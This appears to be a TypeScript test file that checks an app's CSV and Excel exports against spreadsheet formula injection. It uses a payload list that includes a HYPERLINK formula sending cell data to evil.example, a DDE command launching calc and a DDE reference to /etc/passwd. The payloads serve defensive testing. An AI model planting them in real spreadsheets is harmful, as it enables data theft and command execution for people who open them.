// Threat 19: texts that a spreadsheet program would take for formulas, in everything that we write
// for one, judged by a spreadsheet program.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { findReview, loadProgrammes } from '../../../electron/programmes.ts';
import { indexTemplate } from '../../../electron/reports/index-template.ts';
import { journalCsv } from '../../../electron/reports/journal-csv.ts';
import { resultCsv } from '../../../electron/reports/result-csv.ts';
import { publicCsv, publicWorkbook } from '../../../electron/reports/result-public.ts';
import { resultWorkbook } from '../../../electron/reports/result-workbook.ts';
import { safeText } from '../../../electron/reports/spreadsheet.ts';
import type { RoundResult } from '../../../shared/merge/round-result.ts';
import type { Form } from '../../../shared/objects/form.ts';
import { form, result, statistics } from '../reports/made-result.ts';

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "=cmd|' /C calc'!A0",
  '=DDE("soffice","/etc/passwd","")',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  ' =1+1',
  '\u3000=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1',
  '",=1+1,"',
  'x;=1+1;x',
  'x\t=1+1',
  'x|=1+1',
  'x\n=1+1',
  'x\r\n=1+1',
  '=\u200b1+1',
  '\u202e=1+1',
  '%00=1+1',
  "'=1+1",
];

/** The made-up round with a formula wherever a person can put a text: in turn, from the one at
 * `first` on. */
function poisoned(first: number): { readonly result: RoundResult; readonly form: Form } {
  let turn = first;
  const next = () => formulas[turn++ % formulas.length] ?? '=1';
  const title = () => ({ zh: next(), en: next() });
  const rubric = {
    ...form.rubric,
    criteria: form.rubric.criteria.map((criterion) => ({ ...criterion, title: title() })),
    decision: {
      ...form.rubric.decision,
      title: title(),
      choices: form.rubric.decision.choices.map((choice) => ({ ...choice, title: title() })),
    },
  };
  const { content } = result;
  return {
    form: {
      ...form,
      rubric,
      title: next(),
      agency_name: next(),
      programme: { ...form.programme, title: title() },
      review: { ...form.review, title: title(), source: next() },
    },
    result: {
      ...result,
      content: {
        ...content,
        title: next(),
        lots: content.lots.map((lot) => ({
          ...lot,
          title: next(),
          note: title(),
          standings: lot.standings.map((standing) => ({
            ...standing,
            title: next(),
            unit: next(),
            sheets: standing.sheets.map((row) => ({ ...row, name: next(), reason: next() })),
          })),
        })),
        flags: content.flags.map((flag) => ({ ...flag, note: title() })),
      },
    },
  };
}

/** A journal with each formula as the name of who did something, and of what it was about. */
const journal = () =>
  journalCsv(
    formulas.map((formula, i) => ({
      seq: i + 1,
      at: '2026-12-05T02:00:00Z',
      actor: formula,
      action: 'card-received',
      group: 'experts',
      subject: formula,
      about: { zh: formula, en: formula },
      hash: 'ab'.repeat(32),
    })) as unknown as Parameters<typeof journalCsv>[0],
    'zh',
  );

describe('threat 19: a text is no formula', () => {
  const begins = /^[\s]*[=+\-@＝＋－＠]|^[\t\r\n]/u;

  it.each(formulas)('%j gets an apostrophe before anything that begins one', (formula) => {
    const safe = safeText(formula);
    for (const cell of [safe, ...safe.split(/[;|\t\n]/)]) expect(cell).not.toMatch(begins);
  });

  it('what is none stays as it is', () => {
    for (const text of [
      '甲公司；=乙公司',
      'a-b',
      '第 3 页 - 说明',
      '（-1）',
      'x\n- 一\n- 二',
      '100%',
    ]) {
      expect(safeText(text)).toBe(text);
    }
  });
});

const soffice = (() => {
  try {
    return execFileSync('soffice', ['--version'], { stdio: 'pipe', timeout: 30_000 }).length > 0;
  } catch {
    return false;
  }
})();

describe.skipIf(!soffice)(
  'threat 19: LibreOffice opens what we write (skipped where soffice is not installed)',
  () => {
    const folder = mkdtempSync(join(tmpdir(), 'hengping-sheets-'));

    /** Opens files and saves each as flat XML, which says of each cell what it is. */
    function opened(names: readonly string[], ...options: readonly string[]): readonly string[] {
      execFileSync(
        'soffice',
        [
          `-env:UserInstallation=file://${join(folder, 'profile')}`,
          '--headless',
          ...options,
          '--convert-to',
          'fods',
          '--outdir',
          folder,
          ...names.map((name) => join(folder, name)),
        ],
        { stdio: 'pipe', timeout: 120_000 },
      );
      return names.map((name) =>
        readFileSync(join(folder, name.replace(/\.[a-z]+$/, '.fods')), 'utf8'),
      );
    }
    const formulasIn = (xml: string) => xml.match(/table:formula="[^"]*"/g) ?? [];
    // UTF-8, with the separators given, and formulas evaluated as a person may choose to.
    const csvFilter = (separators: string) =>
      `--infilter=Text - txt - csv (StarCalc):${separators},34,76,1,,0,false,true,false,false,false,0,true`;

    it('no cell of a workbook or a table is a formula, under any separator', async () => {
      try {
        const { review } = findReview(loadProgrammes(), 'guangxi-cross-border', 'cb-pre-review');
        writeFileSync(join(folder, 'template.xlsx'), await indexTemplate(review, 'xlsx'));
        writeFileSync(join(folder, 'journal.csv'), journal());
        const halves = [0, Math.ceil(formulas.length / 2)];
        for (const first of halves) {
          const bad = poisoned(first);
          const book = await resultWorkbook(bad.result, bad.form, statistics);
          writeFileSync(join(folder, `book-${first}.xlsx`), book);
          writeFileSync(join(folder, `table-${first}.csv`), resultCsv(bad.result, bad.form));
          const published = await publicWorkbook(bad.result, bad.form);
          writeFileSync(join(folder, `public-${first}.xlsx`), published);
          writeFileSync(join(folder, `public-${first}.csv`), publicCsv(bad.result, bad.form));
        }
        const both = (ending: string, ...names: readonly string[]) =>
          names.flatMap((name) => halves.map((first) => `${name}-${first}.${ending}`));
        const books = ['template.xlsx', ...both('xlsx', 'book', 'public')];
        for (const xml of opened(books)) expect(formulasIn(xml)).toEqual([]);
        // The judge does see formulas: unescaped, the same texts are some.
        writeFileSync(join(folder, 'control.csv'), 'a,=1+1,b;=2+2,c\n');
        const tables = ['journal.csv', ...both('csv', 'table', 'public')];
        for (const [separators, seen] of [
          ['44', 1],
          ['59/44/124', 2],
        ] as const) {
          const [control = '', ...ours] = opened(['control.csv', ...tables], csvFilter(separators));
          for (const xml of ours) expect(formulasIn(xml)).toEqual([]);
          expect(formulasIn(control)).toHaveLength(seen);
        }
      } finally {
        rmSync(folder, { recursive: true, force: true });
      }
    });
  },
);
